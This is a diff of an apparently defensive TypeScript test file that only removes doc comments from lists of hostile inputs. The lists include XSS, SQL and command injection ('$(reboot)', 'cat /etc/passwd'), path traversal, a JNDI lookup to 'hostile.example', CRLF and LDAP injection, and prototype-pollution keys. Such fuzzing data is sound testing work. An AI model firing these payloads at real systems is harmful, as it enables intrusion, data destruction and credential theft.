@@ -22,7 +22,6 @@ const scripts = [
   '<!--><script>alert(1)</script>-->',
 ] as const;
 
-/** Texts that other machines would execute. */
 const commands = [
   ...["' OR '1'='1' --", "'; DROP TABLE pages; --", '1 UNION SELECT NULL,NULL', '$(reboot)'],
   ...['; cat /etc/passwd |', '../../../../etc/passwd', '..\\..\\windows\\win.ini'],
@@ -31,7 +30,6 @@ const commands = [
   ...['${jndi:ldap://hostile.example/a}', '\r\nSet-Cookie: a=b', '*)(uid=*))(|(uid=*'],
 ] as const;
 
-/** Names that objects have from the start. */
 const names = [
   ...`__proto__ constructor prototype toString valueOf hasOwnProperty __proto__.hostile
   constructor.prototype.hostile __proto__[hostile]=1 null undefined NaN Infinity true -0`.split(
@@ -40,7 +38,6 @@ const names = [
   '[object Object]',
 ];
 
-/** Syntax of the search, of EVENTS and of projects. */
 const syntax = [
   ...['a^', 'a~', 'knx~999999999', 'knx^1e309', 'knx^-1', 'knx~1e9', 'title:'],
   ...['title:title:title:', 'nothing:knx', '+ - + -', '-knx', '+knx -knx', '*', '*a*b*c*', '\\'],
@@ -65,7 +62,6 @@ const syntax = [
   ...['<html content="<b onclick=alert(1)>a</b>" />', '<x:text xmlns:x="a" />'],
 ] as const;
 
-/** Letters that break what counts or shows them. */
 const letters = [
   ...['', ' ', '\u0000', '\u0000\u0001\u001b[31m', '\ud800', '\udc00\ud800', '\ufeff\ufffe\uffff'],
   ...['\u202e\u2066gpj.exe', '\u200b\u200d\u2060', 'Z\u0351\u036b\u0343\u036a'.repeat(40)],
